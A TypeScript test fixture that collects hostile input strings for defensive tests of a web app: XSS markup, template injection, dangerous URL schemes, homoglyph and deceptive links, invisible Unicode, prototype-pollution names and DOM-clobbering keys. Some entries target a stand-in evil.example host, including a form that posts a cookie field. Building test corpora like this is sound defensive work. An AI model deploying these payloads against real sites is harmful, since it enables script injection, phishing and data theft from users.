/** Strings that did harm somewhere, by what they try. Every test of hostile input takes them from here. */

/** Sets `globalThis.ran` wherever it runs. */
const RUN = 'globalThis.ran=1';

/** Runs a script wherever it is parsed instead of shown. */
export const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg onload='${RUN}'>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `</title></textarea></style></template></summary></details><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<slot name="seal"></slot><base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example/"</style>`,
  `<form id=forthright action=https://evil.example/><input name=cookie>`,
  `" autofocus onfocus="${RUN}" x="`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];

/** Runs a script where a text is taken for a template of one library or another. */
export const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  '<%= process.exit() %>',
  `#{${RUN}}`,
  `lit$123456789$`,
  `?lit$123456789$`,
  `<!--?lit$123456789$-->`,
  `{"_$litType$":1,"strings":["<img src=x onerror=${RUN}>"]}`,
  `%s%n%x`,
  `$&$1$\`$'`,
];

/** Addresses that no link may lead to. */
export const BAD_URLS = [
  `javascript:${RUN}`,
  ` javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://x.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  'blob:https://x.example/1',
  'filesystem:https://x.example/temporary/x',
  'file:///etc/passwd',
  'view-source:https://x.example/',
  'intent://x.example/#Intent;scheme=http;end',
  'ftp://x.example/',
  'about:blank',
  'ws://x.example/',
  'x-unknown:y',
  '\\\\x.example\\share',
];

/** Addresses that are allowed, and odd all the same. */
export const ODD_URLS = [
  '//other.example/path',
  'https://good.example@evil.example/',
  'https://user:secret@x.example:8443/?a=<b>#"c"',
  'https://xn--80ak6aa92e.example/',
  'https://аррӏе.example/',
  'http://[::1]/',
  'https://x.example:99999/',
  'https://',
  'http:',
  'mailto:',
  'mailto:a@b.example?subject=<script>&body=%0d%0aBcc:c@d.example',
  'tel:*#06#',
  '?q=javascript:alert(1)',
  './javascript:alert(1)',
  '#"><img src=x>',
  '#part:practices',
  '%',
  'a%00b',
  '&#106;avascript:alert(1)',
  // No scheme may hold such a space, so to browsers this is a relative path.
  `javascript\u00a0:${RUN}`,
];

/** Turn text around, hide it, or break it where it is cut. */
export const UNICODE = [
  'abc\u202egnp.exe',
  '\u2066\u2067\u2068abc',
  '\u2069\u2069\u202c',
  'zero\u200bwidth\u2060joined\ufeff',
  '\u200e\u200f\u061c',
  'ﷺﷺﷺ',
  'שלום (world) שלום',
  'ا'.repeat(50),
  'Z̡͖̜a̷͝l̸g̴o'.repeat(20),
  '\ud800',
  '\udc00\ud800',
  '\u0000\u0007\u001b[31m',
  '\u2028\u2029\r\n\t\v\f',
  '👩‍👩‍👧‍👦'.repeat(10),
  '\u{e0001}\u{e0041}\u{e007f}',
  'in\u180evisible\u2062\u2063\u2064\u3164',
  'soft\u00adhyphen',
  '\ufff9a\ufffab\ufffb',
  'İıſK',
];

/** Reach into objects, or collide with names of ours. */
export const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'length',
  '__defineGetter__',
  'forthright',
  'granted',
  'denied',
  'recipient:x',
  'choice:x',
  'choice:',
  'part:practices',
  '/',
  '-',
  '..',
  '*',
];

/** Slow what looks for something in them, or widen what they stand in. */
export const LONG = [
  'a'.repeat(5000),
  'a.'.repeat(3000),
  'a-'.repeat(3000),
  `${'x'.repeat(300)} y`,
];

/** What a person would read, and must read as text. */
export const TEXTS: readonly string[] = [
  '',
  ' ',
  ...MARKUP,
  ...TEMPLATES,
  ...BAD_URLS,
  ...UNICODE,
  ...NAMES,
  ...LONG,
];

/** Those that hide or reorder nothing, so that the guard lets them through. */
export const CLEAN_TEXTS = TEXTS.filter(
  (text) =>
    !/[\0\u180e\u200b\u202a-\u202e\u2060-\u206f\u3164\ufeff\ufff0-\ufff8\u{e0000}-\u{e007f}\p{Surrogate}]/u.test(
      text,
    ),
);

/** Link texts that speak of one place, where the link leads to another: [text, address, real host]. */
export const PRETENDING: readonly (readonly [text: string, url: string, host: string])[] = [
  ['https://bank.example/', 'https://evil.example/', 'evil.example'],
  ['bank.example', 'http://evil.example:8080/bank.example', 'evil.example'],
  ['www.bank.example', 'https://bank.example.evil.example/', 'bank.example.evil.example'],
  ['BANK.EXAMPLE', '//evil.example', 'evil.example'],
  ['help@bank.example', 'mailto:help@evil.example', 'evil.example'],
  ['see bank.example.', 'https://bank.example@evil.example/', 'evil.example'],
  ['bank。example', 'https://evil.example/', 'evil.example'],
  ['apple.example', 'https://аррӏе.example/', 'xn--80ak6aa92e.example'],
  ['банк.example', 'https://evil.example/', 'evil.example'],
];

/** Names that an image or a form of the page may carry, and so hide what scripts expect there. */
export const CLOBBERING = [
  'cookie',
  'currentScript',
  'body',
  'baseURI',
  'readyState',
  'documentElement',
  'querySelector',
  'getElementById',
  'createElement',
  'createDocumentFragment',
  'createComment',
  'importNode',
  'createTreeWalker',
  'addEventListener',
  'dispatchEvent',
  'forthright',
  'scheduler',
  'requestIdleCallback',
  'trustedTypes',
  'customElements',
  'localStorage',
  'navigator',
  'location',
  'crypto',
] as const;
